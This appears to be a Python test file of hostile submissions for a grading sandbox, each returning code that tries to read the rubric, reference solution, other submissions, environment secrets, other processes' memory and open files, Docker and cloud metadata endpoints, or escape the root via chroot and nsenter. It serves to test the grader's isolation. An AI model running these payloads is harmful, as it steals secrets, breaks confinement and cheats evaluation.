"""Attacks that read what is not theirs: each prints all that it can lay its hands on."""

from __future__ import annotations

from tests.hostile.attack import attack
from tests.hostile.places import Places

SHOW = """
import os
def show(path):
    try:
        with open(path, 'rb') as file: print(path, file.read(100_000).decode('latin-1'))
    except OSError as error: print(path, error)
def walk(folder, most=3000):
    for number, (here, folders, files) in enumerate(os.walk(folder, onerror=print)):
        if number > most: break
        for name in files: show(os.path.join(here, name))
"""


@attack("read", "the rubric")
def rubric(places: Places) -> str:
    return f"{SHOW}\nshow({str(places.rubric)!r}); walk({str(places.desk)!r})"


@attack("read", "the reference solution")
def reference(places: Places) -> str:
    return f"{SHOW}\nshow({str(places.desk / 'reference.ipynb')!r})"


@attack("read", "hidden data")
def hidden_data(places: Places) -> str:
    return f"{SHOW}\nwalk({str(places.cache)!r})"


@attack("read", "other submissions")
def others(places: Places) -> str:
    return f"{SHOW}\nwalk({str(places.submissions)!r}); walk('..'); walk({str(places.temporary)!r})"


@attack("read", "the results")
def results(places: Places) -> str:
    return f"{SHOW}\nwalk({str(places.results)!r})"


@attack("read", "the teacher's home")
def home(places: Places) -> str:
    return f"{SHOW}\nwalk({str(places.home)!r}); walk(os.path.expanduser('~')); walk('/root'); walk('/home')"


@attack("read", "secrets of the environment")
def environment(places: Places) -> str:
    return (
        f"{SHOW}\nimport ctypes\nprint(dict(os.environ))\n"
        "for name in os.listdir('/proc'):\n    show(f'/proc/{name}/environ'); show(f'/proc/{name}/cmdline')\n"
        "print(os.popen('env; export; cat /proc/*/environ').read())"
    )


@attack("read", "the memory of other processes")
def memory(places: Places) -> str:
    return """
import os, re
for name in filter(str.isdigit, os.listdir('/proc')):
    try:
        ranges = [line for line in open(f'/proc/{name}/maps') if ' rw-p' in line][:400]
        with open(f'/proc/{name}/mem', 'rb', 0) as memory:
            for line in ranges:
                start, end = (int(part, 16) for part in line.split()[0].split('-'))
                memory.seek(start)
                try: print(re.findall(b'loot[0-9a-f]{24}', memory.read(min(end - start, 1 << 24))))
                except OSError: pass
    except OSError as error: print(name, error)
"""


@attack("read", "the grader's open files")
def descriptors(places: Places) -> str:
    return """
import os
for process in ('self', *filter(str.isdigit, os.listdir('/proc'))):
    for number in os.listdir(f'/proc/{process}/fd'):
        try:
            print(number, os.readlink(f'/proc/{process}/fd/{number}'))
            os.lseek(int(number), 0, 0)
            print(os.read(int(number), 5000))
        except OSError as error: print(error)
        try: print(open(f'/proc/{process}/fd/{number}', 'rb').read(5000))
        except OSError as error: print(error)
"""


@attack("read", "files by a way around the root")
def around_the_root(places: Places) -> str:
    return f"""
{SHOW}
wanted = {str(places.rubric)!r}
for process in ('self', '1', *filter(str.isdigit, os.listdir('/proc'))):
    for way in ('root', 'cwd', 'task/1/root'): show(f'/proc/{{process}}/{{way}}/../../../..{{wanted}}')
for number in range(64):
    try: print(os.open('../' * 12 + wanted[1:], os.O_RDONLY, dir_fd=number))
    except OSError: pass
try:
    os.makedirs('/tmp/jail', exist_ok=True); os.chroot('/tmp/jail'); os.chdir('../' * 12); os.chroot('.')
    show(wanted)
except OSError as error: print(error)
print(os.popen(f'cat {{wanted}}; mount; unshare -Urm cat {{wanted}}; nsenter -t 1 -m cat {{wanted}}').read())
"""


@attack("read", "a service of this machine")
def local_service(places: Places) -> str:
    return f"""
import socket
for address in ('127.0.0.1', '::1', '0.0.0.0', 'localhost'):
    try:
        with socket.create_connection((address, {places.port}), timeout=2) as connection: print(connection.recv(100))
    except OSError as error: print(error)
for name in ({str(places.folder / "service")!r}, '\\0{places.mark}', '/var/run/docker.sock', '/run/dbus/system_bus_socket'):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(2); connection.connect(name); print(name, connection.recv(100))
    except OSError as error: print(error)
"""


@attack("read", "the cloud's metadata")
def metadata(places: Places) -> str:
    return """
import socket
for address in ('169.254.169.254', '1.1.1.1'):
    try:
        with socket.create_connection((address, 80), timeout=2) as connection:
            connection.sendall(b'GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n'); print('CONNECTED', connection.recv(1000))
    except OSError as error: print(error)
"""


@attack("read", "shared memory of other processes")
def shared_memory(places: Places) -> str:
    return f"{SHOW}\nwalk('/dev/shm'); print(os.popen('ipcs -a').read())"


@attack("read", "the grader's own code and rubrics in the installation")
def installation(places: Places) -> str:
    return f"""
{SHOW}
import sys, importlib.util
for name, module in list(sys.modules.items()):
    if name.split('.')[0] == 'grader': print(name); show(str(getattr(module, '__file__', '')))
import grader.evidence.events, inspect
walk(os.path.join(os.path.dirname(grader.__file__), '..', 'rubrics'), 20)
"""
